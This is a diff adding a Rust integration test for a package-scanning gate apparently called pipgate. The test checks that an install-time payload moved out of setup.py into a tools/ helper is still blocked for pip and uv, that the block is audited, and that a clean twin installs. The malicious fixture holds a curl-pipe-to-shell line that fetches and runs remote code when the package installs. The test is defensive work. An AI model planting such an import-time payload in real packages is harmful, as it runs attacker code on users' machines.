@@ -350,3 +350,40 @@ fn startup_hijacks_are_blocked_by_the_shipped_policy() {
     );
     assert_eq!(scan(&own), (Some(0), vec![]));
 }
+
+/// A payload moved out of setup.py into a helper under `tools/` (judged by its path alone as
+/// maintainer tooling) runs at install all the same when setup.py imports it: pipgate judges the
+/// helper as install-time code, so pip and uv are refused and the reason names the helper; the
+/// same tree with a clean helper installs.
+#[test]
+fn a_setup_py_that_imports_a_helper_from_tools_is_judged_by_what_the_helper_does() {
+    const SETUP: &str = "import os, sys\nfrom setuptools import setup\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'tools'))\nimport build_helpers\nsetup(name='NAME', version=build_helpers.VERSION)\n";
+    const EVIL: &str = "VERSION = '1.0'\nimport os\nos.system('curl -s http://203.0.113.7/x.sh | sh')\n";
+    const CLEAN: &str = "VERSION = '1.0'\n";
+    let idx = FakeIndex::start(Format::Json);
+    let evil = sdist("demo-reach", "1.0", &[("setup.py", &SETUP.replace("NAME", "demo-reach")), ("tools/build_helpers.py", EVIL)]);
+    let evil_sha = sha256_hex(&evil.bytes);
+    idx.add_dist("demo-reach", evil);
+    let clean = sdist("demo-reach-ok", "1.0", &[("setup.py", &SETUP.replace("NAME", "demo-reach-ok")), ("tools/build_helpers.py", CLEAN)]);
+    idx.add_dist("demo-reach-ok", clean);
+    let dir = tempfile::tempdir().unwrap();
+    let policy = dir.path().join("policy.yaml");
+    std::fs::write(&policy, repo_policy()).unwrap();
+    let gate = Pipgate::start_with(&idx.url(), &policy, &dir.path().join("data"));
+
+    let venv = Venv::new();
+    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-reach==1.0"]);
+    assert!(!out.status.success(), "{}", show(&out));
+    assert!(stderr(&out).contains("403 Client Error: Blocked by pipgate: "), "{}", show(&out));
+    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-reach==1.0"]);
+    assert!(!out.status.success(), "{}", show(&out));
+    let err = stderr(&out);
+    assert!(err.contains("tools/build_helpers.py"), "the reason names the helper: {err}");
+
+    let block = gate.audit().into_iter().find(|r| r["decision"] == "block" && r["sha256"] == evil_sha.as_str());
+    let block = block.expect("the block is audited");
+    assert!(block["findings"].as_array().unwrap().iter().any(|f| f == "execution.download-and-execute"), "{block}");
+
+    let out = Venv::new().pip(&["install", "--index-url", &gate.url, "demo-reach-ok==1.0"]);
+    assert!(out.status.success(), "the clean twin installs: {}", show(&out));
+}
